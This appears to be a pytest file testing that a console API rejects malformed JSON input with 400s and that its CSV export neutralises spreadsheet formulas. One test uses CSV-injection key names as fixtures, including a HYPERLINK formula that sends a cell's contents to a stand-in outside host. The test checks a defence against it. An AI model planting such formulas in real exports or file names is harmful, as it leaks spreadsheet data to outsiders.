"""The console's routes with hostile bodies and query strings: a 4xx saying why, never a 5xx."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest


def post(client: Any, path: str, body: str) -> Any:
    return client.http.post(path, body=body.encode(), headers={"Content-Type": "application/json"})


def test_a_recount_of_a_key_with_a_lone_surrogate_is_a_400(client, s3, settings) -> None:
    # JSON can spell a lone surrogate; botocore cannot encode it (before: a 500)
    response = post(client, "/console/api/recount", '{"key": "a\\ud800.png"}')
    assert response.status_code == 400
    assert "lone surrogate" in json.loads(response.body)["reason"]


@pytest.mark.parametrize("key", ['["a.png"]', "7", '{"k": 1}'])
def test_a_recount_key_that_is_not_text_is_a_400(client, s3, settings, key) -> None:
    response = post(client, "/console/api/recount", f'{{"key": {key}}}')
    assert response.status_code == 400


@pytest.mark.parametrize("route", ["/console/api/recount", "/console/api/uploads"])
@pytest.mark.parametrize("parameters", ['"x"', "[1, 2]", '[["a", "b"]]', "7", "true"])
def test_parameters_that_are_not_an_object_are_a_400(client, s3, settings, route, parameters):
    # before: dict(body["parameters"]) raised ValueError/TypeError: a 500
    s3.put_object(Bucket=settings.images_bucket, Key="a.png", Body=b"x")
    body = f'{{"key": "a.png", "files": ["a.png"], "parameters": {parameters}}}'
    response = post(client, route, body)
    assert response.status_code == 400
    assert "parameters must be an object" in json.loads(response.body)["reason"]


def test_a_folder_listing_shows_an_image_whose_results_are_under_long_keys(
    client, s3, settings
) -> None:
    # before: results of a key over ~930 bytes (counts-long-keys/<sha256>/) were never listed:
    # the image stayed "counting", then "no result"
    from chalicelib.cells.messages import ResultKeys
    from tests.functional.test_console import count

    long_key = "plate/" + "x" * 960 + ".png"
    assert ResultKeys.folder(long_key).startswith("counts-long-keys/")
    count(s3, settings, long_key, 3)
    count(s3, settings, "plate/short.png", 2)
    listing = json.loads(client.http.get("/console/api/images?prefix=plate/&sort=key").body)
    rows = {row["key"]: row for row in listing["items"]}
    assert rows[long_key]["status"] == "ok" and rows[long_key]["count"] == 3
    assert rows[long_key]["thumbnail"]
    assert rows["plate/short.png"]["count"] == 2
    detail = json.loads(client.http.get(f"/console/api/image?key={quote(long_key)}").body)
    assert detail["count"] == 3 and detail["annotated"]


def test_a_summary_csv_never_hands_a_spreadsheet_a_formula(client, s3, settings) -> None:
    # before: an image keyed "=HYPERLINK(...)" (a name anyone who can upload may choose; S3
    # keys take any character) was exported as is: a spreadsheet runs it (CSV injection).
    # The predict batch's CSV already defused such cells; the console's did not.
    import csv
    import io

    from tests.functional.test_console import count

    keys = ['=HYPERLINK("http://x.example/?"&A1,"open").png', "@SUM(1+1).png", "-1+1/A01.png"]
    for key in keys:
        count(s3, settings, key, 2)
    exported = client.http.get("/console/api/summary/export?format=csv&table=images")
    rows = list(csv.DictReader(io.StringIO(exported.body.decode())))
    assert sorted(r["key"] for r in rows) == sorted("'" + key for key in keys)
    assert {r["count"] for r in rows} == {"2"}  # numbers stay numbers
    wells = client.http.get("/console/api/summary/export?format=csv&table=wells")
    plates = [r["plate"] for r in csv.DictReader(io.StringIO(wells.body.decode()))]
    assert all(not p.startswith(("=", "+", "-", "@")) for p in plates)


@pytest.mark.parametrize(
    "names", [["a b.png", "a_b.png"], ["Ä1.png", "Ö1.png"], ["x/A01.png", "y/A01.png"]]
)
def test_two_files_of_one_upload_that_would_share_a_key_are_a_400(client, s3, names) -> None:
    # before: two forms for one key: the second upload replaced the first, one count lost
    response = post(client, "/console/api/uploads", json.dumps({"prefix": "p", "files": names}))
    assert response.status_code == 400
    assert "both be stored as" in json.loads(response.body)["reason"]


# -- qa5 -------------------------------------------------------------------------------------
@pytest.mark.parametrize("prefix", ['["p/"]', '{"a": "p"}', "7", "true"])
def test_an_upload_prefix_that_is_not_text_is_a_400(client, s3, settings, prefix) -> None:
    # before: str() of it became the folder: 200, forms for the keys "['p/']/a.png", "7/a.png"
    body = f'{{"prefix": {prefix}, "files": ["a.png"]}}'
    response = post(client, "/console/api/uploads", body)
    assert response.status_code == 400, response.body
    assert "prefix must be" in json.loads(response.body)["reason"]


@pytest.mark.parametrize("prefix", ['"plate 1/"', '""', "null"])
def test_an_upload_prefix_of_text_or_none_is_taken(client, s3, settings, prefix) -> None:
    response = post(client, "/console/api/uploads", f'{{"prefix": {prefix}, "files": ["a.png"]}}')
    assert response.status_code == 200
    [form] = json.loads(response.body)["forms"]
    assert form["key"] in ("plate 1/a.png", "a.png")
